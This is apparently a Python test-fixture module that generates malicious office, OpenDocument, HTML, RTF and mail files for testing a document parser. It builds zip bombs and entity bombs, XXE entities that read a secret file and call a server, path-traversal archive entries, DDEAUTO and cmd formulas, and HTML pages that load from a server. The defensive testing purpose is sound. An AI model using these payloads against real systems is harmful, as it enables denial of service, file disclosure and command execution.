"""Files made to do harm to whoever opens them, by name. `secret` is a file they try to show, `server` an address."""

import zipfile
from collections.abc import Callable
from io import BytesIO

from tests.exchange.builders import NAMESPACES, RELATION, RELATIONS, docx, p, package, tbl, tc

Make = Callable[[], bytes]
MARK = "绝密内容"  # what the secret file says, and what hidden instructions would print
SHOWN = "看得见的文字"

_LAUGHS = (
    "<!DOCTYPE x ["
    '<!ENTITY a0 "哈哈哈哈哈哈哈哈哈哈">'
    + "".join(f'<!ENTITY a{n} "' + f"&a{n - 1};" * 10 + '">' for n in range(1, 12))
    + "]>"
)
_QUADRATIC = "<!DOCTYPE x [<!ENTITY a0 '" + "哈" * 200_000 + "'>]>"


def bombs() -> dict[str, Make]:
    """Small files that ask for very much memory or time."""
    word, sheet = _word_with, _excel_with
    return {
        "zip bomb": lambda: package({"word/document.xml": bytes(400 << 20)}),
        "zip bomb that lies about its size": lambda: _lying(package({"word/document.xml": b" " * (60 << 20)})),
        "zip bomb of many parts": lambda: package({f"word/{n}.xml": bytes(3 << 20) for n in range(400)}),
        "zip of 100,000 parts": lambda: package({f"word/{n}": b"" for n in range(100_000)}),
        "nested zip": lambda: _nested(20),
        "nested zip in a Word file": lambda: package({"word/document.xml": _nested(20)}),
        "styles as bomb": lambda: _with(docx(p(SHOWN, '<w:pStyle w:val="x"/>')), "word/styles.xml", b" " * (200 << 20)),
        "entity bomb in Word": lambda: word(_LAUGHS, "&a11;"),
        "quadratic entities in Word": lambda: word(_QUADRATIC, "&a0;" * 100_000),
        "entity bomb in styles": lambda: _with(
            docx(p(SHOWN, '<w:pStyle w:val="x"/>')), "word/styles.xml", f"{_LAUGHS}<x>&a11;</x>".encode()
        ),
        "entity bomb in relations": lambda: _with(
            docx(p(SHOWN)), "word/_rels/document.xml.rels", f"{_LAUGHS}<x>&a11;</x>".encode()
        ),
        "entity bomb in Excel": lambda: sheet("<row><c t='str'><v>&a11;</v></c></row>", before=_LAUGHS),
        "entity bomb in OpenDocument text": lambda: _odf("text", "<text:p>&a11;</text:p>", _LAUGHS),
        "entity bomb in a spreadsheet": lambda: _odf("spreadsheet", "<text:p>&a11;</text:p>", _LAUGHS),
        "entity bomb in a page": f"{_LAUGHS}<html><body>&a11;</body></html>".encode,
        "XML 200,000 deep": lambda: docx("<w:sdt>" * 200_000 + "</w:sdt>" * 200_000),
        "tables 5,000 deep": lambda: docx("<w:tbl><w:tr><w:tc>" * 5_000 + "</w:tc></w:tr></w:tbl>" * 5_000),
        "tables 200 deep": lambda: docx("<w:tbl><w:tr><w:tc>" * 60 + "</w:tc></w:tr></w:tbl>" * 60),
        "HTML tables 100,000 deep": lambda: b"<table><tr><td>" * 100_000,
        "HTML tags 1,000,000 deep": lambda: b"<b>" * 1_000_000,
        "OpenDocument 200,000 deep": lambda: _odf("text", "<text:list>" * 200_000 + "</text:list>" * 200_000),
        "RTF 1,000,000 deep": lambda: b"{\\rtf1" + b"{" * 1_000_000,
        "mail 10,000 deep": lambda: _mail(10_000),
        "a span of 1e9 in Word": lambda: docx(tbl(*[tc("a", '<w:gridSpan w:val="999999999"/>')] * 500)),
        "rows that begin at 1e9": lambda: docx(
            f"<w:tbl><w:tr><w:trPr><w:gridBefore w:val='999999999'/></w:trPr>{tc('a')}</w:tr></w:tbl>"
        ),
        "a dimension of all cells": lambda: sheet("<row r='1'><c r='A1' t='str'><v>a</v></c></row>"),
        "cells at both ends of a sheet": lambda: sheet(
            "<row r='1'><c r='A1' t='str'><v>a</v></c></row>"
            "<row r='1048576'><c r='XFD1048576' t='str'><v>b</v></c></row>"
        ),
        "merged over all cells": lambda: sheet(
            "<row r='1'><c r='A1' t='str'><v>a</v></c></row>"
            "<row r='1048576'><c r='XFD1048576' t='str'><v>b</v></c></row>",
            after="<mergeCells><mergeCell ref='A1:XFD1048576'/></mergeCells>",
        ),
        "200,000 merges over all cells": lambda: sheet(
            "<row r='1'><c r='A1' t='str'><v>a</v></c></row>",
            after="<mergeCells>" + "<mergeCell ref='A1:XFD1048576'/>" * 200_000 + "</mergeCells>",
        ),
        "merges over filled cells": lambda: sheet(
            "".join(f"<row r='{r}'>" + "<c t='str'><v>a</v></c>" * 100 + "</row>" for r in range(1, 1001)),
            after="<mergeCells>"
            + "".join(f"<mergeCell ref='A{n}:XFD1048576'/>" for n in range(1, 1001))
            + "</mergeCells>",
        ),
        "cells repeated 1e18 times": lambda: _odf(
            "spreadsheet",
            '<table:table><table:table-row table:number-rows-repeated="999999999"><table:table-cell '
            'table:number-columns-repeated="999999999"><text:p>a</text:p></table:table-cell></table:table-row></table:table>',
        ),
        "blanks repeated 1e18 times": lambda: _odf(
            "spreadsheet",
            '<table:table><table:table-row table:number-rows-repeated="999999999"><table:table-cell '
            'table:number-columns-repeated="999999999"/></table:table-row></table:table>',
        ),
        "rows repeated in a text": lambda: _odf(
            "text",
            '<table:table><table:table-row table:number-rows-repeated="999999999"><table:table-cell>'
            "<text:p>a</text:p></table:table-cell></table:table-row></table:table>",
        ),
        "spaces repeated": lambda: _odf("text", '<text:p>甲<text:s text:c="999999999"/></text:p>'),
        "HTML spans of 1e9": lambda: b"<table>" + b"<tr><td colspan=999999999 rowspan=999999999>a" * 5_000,
        "3,000,000 paragraphs in Word": lambda: docx("<w:p/>" * 3_000_000),
        "3,000,000 cells in a page": lambda: b"<table><tr>" + b"<td>a" * 3_000_000,
        "3,000,000 rows of RTF": lambda: b"{\\rtf1" + b"\\cell\\row" * 3_000_000,
        "20,000,000 tabs": lambda: b"a\t" * 20_000_000,
        "30 MB of line ends": lambda: b"\n" * (30 << 20) + b"a",
        "one line of 31 MB": lambda: b"a" * (31 << 20),
        "one word of 31 MB in RTF": lambda: b"{\\rtf1 " + b"a" * (31 << 20) + b"}",
        "100 MB of text": lambda: "预算绩效\n".encode() * (8 << 20),
        "100 MB page": lambda: b"<html>" + b"<p>abc</p>" * (10 << 20),
        "100 MB of mail": lambda: (
            b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + b"<p>abc</p>\r\n" * (8 << 20)
        ),
    }


def lures(secret: str, server: str) -> dict[str, Make]:
    """Files that ask their reader to open another file, to call a server or to run something."""
    link = f"{server}/called"
    external = (
        f'<!DOCTYPE x [<!ENTITY s SYSTEM "file://{secret}"><!ENTITY h SYSTEM "{link}">'
        f'<!ENTITY % p SYSTEM "{link}">%p;]>'
    )
    outer = f'<!DOCTYPE x SYSTEM "{link}">'
    kinds = ("styles", "numbering", "image", "attachedTemplate", "subDocument", "hyperlink", "oleObject", "aFChunk")
    relations = "".join(
        f'<Relationship Id="r{kind}{number}{len(mode)}" Type="{RELATION}/{kind}" Target="{target}" {mode}/>'
        for kind in kinds
        for number, target in enumerate((link, f"file://{secret}", secret, f"../../../../../..{secret}"))
        for mode in ('TargetMode="External"', "")
    )
    fields = (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDETEXT "{secret}" </w:instrText>'
        f'</w:r><w:r><w:instrText> DDEAUTO c:\\\\cmd "/k {secret}" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:altChunk r:id="raFChunk00" xmlns:r="' + RELATION + '"/>'
        '<w:subDoc r:id="rsubDocument00" xmlns:r="' + RELATION + '"/>'
    )
    relations = f'<Relationships xmlns="{RELATIONS}">{relations}</Relationships>'
    formula = (
        f"<row><c t='str'><f>WEBSERVICE(\"{link}\")</f></c><c><f>1+1</f></c>"
        f"<c t='str'><f>cmd|' /C {secret}'!A0</f><v>{SHOWN}</v></c></row>"
    )
    page = (
        f'<html><head><base href="{server}"><link rel="stylesheet" href="{link}"><meta http-equiv="refresh" '
        f'content="0;url={link}"><script src="{link}">document.write("{MARK}")</script></head>'
        f'<body background="{link}">'
        f'<p>{SHOWN}</p><img src="{link}"><iframe src="file://{secret}"></iframe><object data="{link}"></object>'
        f'<embed src="{link}"><form action="{link}"></form><xml:include href="{link}"/></body></html>'
    )
    return {
        "external entities in Word": lambda: _word_with(external, "&s;&h;"),
        "external document type in Word": lambda: _word_with(outer, SHOWN),
        "external entities in styles": lambda: _with(
            docx(p(SHOWN, '<w:pStyle w:val="x"/>')), "word/styles.xml", f"{external}<x>&s;</x>".encode()
        ),
        "external entities in Excel": lambda: _excel_with("<row><c t='str'><v>&s;&h;</v></c></row>", before=external),
        "external entities in OpenDocument": lambda: _odf("text", "<text:p>&s;&h;</text:p>", external),
        "external entities in a spreadsheet": lambda: _odf("spreadsheet", "<text:p>&s;</text:p>", external),
        "external entities in a page": f"{external}<html><body>{SHOWN}&s;&h;</body></html>".encode,
        "external relations and fields in Word": lambda: _with(
            docx(p(SHOWN) + fields), "word/_rels/document.xml.rels", relations.encode()
        ),
        "a main part outside": lambda: _with(
            docx(p(SHOWN)),
            "_rels/.rels",
            f'<Relationships xmlns="{RELATIONS}"><Relationship Id="a" Type="{RELATION}/officeDocument" '
            f'Target="../../../../../..{secret}"/></Relationships>'.encode(),
        ),
        "parts with names outside": lambda: package(
            {f"../../../../../..{secret}": b"x", secret: b"x", "word/document.xml": _document(p(SHOWN))}
        ),
        "macros in Word": lambda: _with(docx(p(SHOWN)), "word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(2_000)),
        "formulas, links and DDE in Excel": lambda: _excel_with(formula),
        "formulas and links in a spreadsheet": lambda: _odf(
            "spreadsheet",
            f'<table:table><table:table-source xlink:href="file://{secret}"/><table:table-row><table:table-cell '
            f'table:formula="of:=WEBSERVICE(&quot;{link}&quot;)"><text:p>{SHOWN}</text:p></table:table-cell>'
            "</table:table-row></table:table>",
        ),
        "linked sections in OpenDocument": lambda: _odf(
            "text",
            f'<text:section><text:section-source xlink:href="file://{secret}"/><text:p>{SHOWN}</text:p></text:section>'
            f'<draw:frame><draw:object xlink:href="{link}"/></draw:frame>',
        ),
        "a page full of links": page.encode,
        "a mail full of links": (
            f"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\nContent-Location: {link}\r\n\r\n{page}"
        ).encode,
        "fields and objects in RTF": (
            f'{{\\rtf1\\ansi {{\\field{{\\*\\fldinst INCLUDETEXT "{secret}"}}{{\\fldrslt a}}}}'
            f"{{\\object\\objautlink{{\\*\\objclass Package}}{{\\*\\objdata 0105}}}}"
            f"{{\\*\\template {link}}}{{\\field{{\\*\\fldinst DDEAUTO c:\\\\x {link}}}}}\\par}}"
        ).encode,
    }


def _document(body: str) -> bytes:
    return f"<w:document {NAMESPACES}><w:body>{body}</w:body></w:document>".encode()


def _word_with(before: str, text: str) -> bytes:
    return _with(docx(""), "word/document.xml", before.encode() + _document(p(text)))


def _with(data: bytes, name: str, content: bytes) -> bytes:
    """The package with one part put in or exchanged."""
    with zipfile.ZipFile(BytesIO(data)) as archive:
        parts: dict[str, str | bytes] = {each: archive.read(each) for each in archive.namelist()}
    return package({**parts, name: content})


def _excel_with(rows: str, *, before: str = "", after: str = "") -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    relation = f'<Relationship Id="r1" Type="{RELATION}/worksheet" Target="worksheets/sheet1.xml"/>'
    return package(
        {
            "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{RELATION}"><sheets><sheet name="一" sheetId="1" '
            'r:id="r1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{RELATIONS}">{relation}</Relationships>',
            "xl/worksheets/sheet1.xml": f'{before}<worksheet xmlns="{main}"><dimension ref="A1:XFD1048576"/>'
            f"<sheetData>{rows}</sheetData>{after}</worksheet>",
        }
    )


def _odf(kind: str, body: str, before: str = "") -> bytes:
    oasis = "urn:oasis:names:tc:opendocument:xmlns"
    names = " ".join(
        f'xmlns:{short}="{oasis}:{name}:1.0"'
        for short, name in (("office", "office"), ("text", "text"), ("table", "table"), ("draw", "drawing"))
    )
    content = (
        f'{before}<office:document-content {names} xmlns:xlink="http://www.w3.org/1999/xlink"><office:body>'
        f"<office:{kind}>{body}</office:{kind}></office:body></office:document-content>"
    )
    return package({"mimetype": f"application/vnd.oasis.opendocument.{kind}", "content.xml": content})


def _nested(depth: int) -> bytes:
    data = bytes(10 << 20)
    for _ in range(depth):
        data = package({"word/document.xml": data})
    return data


def _lying(data: bytes) -> bytes:
    """The sizes in the directory made small; what is inflated stays large."""
    place = data.rindex(b"PK\x01\x02")
    return data[: place + 24] + (1_000).to_bytes(4, "little") + data[place + 28 :]


def _mail(depth: int) -> bytes:
    head = b"MIME-Version: 1.0\r\n"
    parts = b"".join(
        b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (number, number) for number in range(depth)
    )
    return head + parts + b"Content-Type: text/html\r\n\r\n<p>a</p>"
